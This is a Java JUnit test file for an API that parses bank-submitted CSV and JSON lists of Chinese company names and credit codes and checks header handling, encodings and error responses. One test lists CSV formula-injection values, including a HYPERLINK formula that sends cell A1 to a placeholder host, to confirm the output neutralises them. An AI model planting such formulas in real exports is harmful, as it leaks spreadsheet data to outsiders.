package org.xinyong.api.check;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.xinyong.api.http.Problem;
import org.xinyong.api.testing.TestCodes;

/** What a check reads of what a bank sends (every entry as meant, or a 400 saying why) and what its CSV answer holds. */
class CheckInputTest {
    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final String CODE = TestCodes.creditCode("320602", 100001);

    private static List<CheckEntry> csv(String text) {
        return CheckInput.parse(text.getBytes(StandardCharsets.UTF_8), "text/csv", MAPPER, 10_000).entries();
    }

    private static List<String> namesAndCodes(List<CheckEntry> entries) {
        return entries.stream().map(e -> e.name() + "|" + e.code()).toList();
    }

    @Test
    void headers_asBanksWriteThem_nameTheirColumns() {
        assertEquals(List.of("南通金海家纺有限公司|" + CODE, "启东市宏远建筑工程有限公司|"),
                namesAndCodes(csv("序号,公司名称,社会信用代码\n1,南通金海家纺有限公司," + CODE + "\n2,启东市宏远建筑工程有限公司,\n")));
        // other numbers titled 代码 are not the credit code; long titles are titles
        for (String[] titlesAndRow : new String[][] {
                {"客户名称,统一社会信用代码", "南通金海家纺有限公司," + CODE},
                {"Company Name,Credit Code", "南通金海家纺有限公司," + CODE},
                {"Company,Credit Code", "南通金海家纺有限公司," + CODE},
                {"公司,信用代码", "南通金海家纺有限公司," + CODE},
                {"企业名称,组织机构代码,行政区划代码,统一社会信用代码", "南通金海家纺有限公司,MA1X0000X,320602," + CODE},
                {"纳税人名称,纳税人识别号/统一社会信用代码（18位）", "南通金海家纺有限公司," + CODE}}) {
            assertEquals(List.of("南通金海家纺有限公司|" + CODE), namesAndCodes(csv(titlesAndRow[0] + "\n" + titlesAndRow[1] + "\n")),
                    titlesAndRow[0]);
        }
    }

    @Test
    void aCodeColumnBesideOthersNotTitledAsNames_isRefused_notReadAsCodesOnly() {
        Problem refused = assertThrows(Problem.class, () -> csv("编号,单位全称,统一社会信用代码\n1,南通金海家纺有限公司," + CODE + "\n"));
        assertEquals("bad-csv-header", refused.type());
        assertEquals(List.of("|" + CODE), namesAndCodes(csv("统一社会信用代码\n" + CODE + "\n")), "codes alone, one column");
    }

    @Test
    void withoutAHeader_oneOrTwoColumns_areReadByShape() {
        assertEquals(List.of("南通金海家纺有限公司|" + CODE, "南通代码科技有限公司|"),
                namesAndCodes(csv("南通金海家纺有限公司," + CODE + "\n南通代码科技有限公司\n")));
        assertEquals(List.of("南通代码科技有限公司|", "南通金海家纺有限公司|"),
                namesAndCodes(csv("南通代码科技有限公司\n南通金海家纺有限公司\n")), "a name with 代码 in the first row is no header");
        assertEquals(List.of("南通金海家纺有限公司|"), namesAndCodes(csv("1,南通金海家纺有限公司\n")), "a row number is no name");
        assertEquals(List.of("南通代码软件工作室|" + CODE, "Unicode Ltd|"),
                namesAndCodes(csv("南通代码软件工作室," + CODE + ",,\nUnicode Ltd,,,\n")), "no title words; Excel's empty columns");
    }

    @Test
    void threeColumnsWithoutAHeader_areRefused_notGuessed() {
        Problem refused = assertThrows(Problem.class, () -> csv("1,南通金海家纺有限公司," + CODE + "\n"));
        assertEquals(400, refused.status());
        assertEquals("bad-csv-header", refused.type());
    }

    @Test
    void aBlankJsonEntry_isLeftOut_asABlankRow_theOthersKeepingTheirIndex() {
        List<CheckEntry> entries = CheckInput.parse("[{\"name\": \"\", \"code\": \"\"}, {\"name\": \"南通金海家纺有限公司\"}]"
                .getBytes(StandardCharsets.UTF_8), "application/json", MAPPER, 10).entries();
        assertEquals(1, entries.size());
        assertEquals(1, entries.get(0).index());
    }

    @Test
    void aJsonEntryWithNeitherNameNorCode_isRefused_withItsNumber() {
        Problem refused = assertThrows(Problem.class, () -> CheckInput.parse(
                "[{\"name\": \"南通金海家纺有限公司\"}, {\"companyName\": \"启东市宏远建筑工程有限公司\"}]".getBytes(StandardCharsets.UTF_8),
                "application/json", MAPPER, 10));
        assertEquals(400, refused.status());
        assertEquals("第2条没有名称也没有代码", refused.title());
    }

    @Test
    void aCellASpreadsheetWouldRun_isAnsweredAsText() {
        for (String formula : List.of("=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1")) {
            assertEquals("'" + formula, CheckOutput.inert(formula));
        }
        assertEquals("南通金海家纺有限公司", CheckOutput.inert("南通金海家纺有限公司"));
        assertEquals("", CheckOutput.inert(""));
        String answer = new String(CheckOutput.csv(List.of(new CheckResult(new CheckEntry(0, "=1+1", ""),
                CheckResult.Verdict.CLEAR, 0, List.of(), null, List.of(), List.of())), StandardCharsets.UTF_8), StandardCharsets.UTF_8);
        assertEquals(-1, answer.indexOf(",=1+1"), answer);
        assertTrue(answer.contains(",'=1+1,"), answer);
    }

    @Test
    void textInUtf8OrGbk_isRead_anythingElseRefused() {
        String text = "名称,统一社会信用代码\n南通金海家纺有限公司," + CODE + "\n";
        for (java.nio.charset.Charset charset : List.of(StandardCharsets.UTF_8, java.nio.charset.Charset.forName("GBK"))) {
            assertEquals(List.of("南通金海家纺有限公司|" + CODE),
                    namesAndCodes(CheckInput.parse(text.getBytes(charset), "text/csv", MAPPER, 10).entries()), charset.name());
        }
        byte[] utf16 = ("\uFEFF" + text).getBytes(StandardCharsets.UTF_16LE);
        byte[] zip = {0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, (byte) 0x80, (byte) 0xFF, 0x00, 0x00};
        byte[] neither = {(byte) 0x81, 0x20, (byte) 0xFF, (byte) 0xFF, 0x0A};
        for (byte[] body : List.of(utf16, zip, neither)) {
            Problem refused = assertThrows(Problem.class, () -> CheckInput.parse(body, "text/csv", MAPPER, 10));
            assertEquals(415, refused.status());
            assertEquals("unsupported-encoding", refused.type());
        }
    }
}
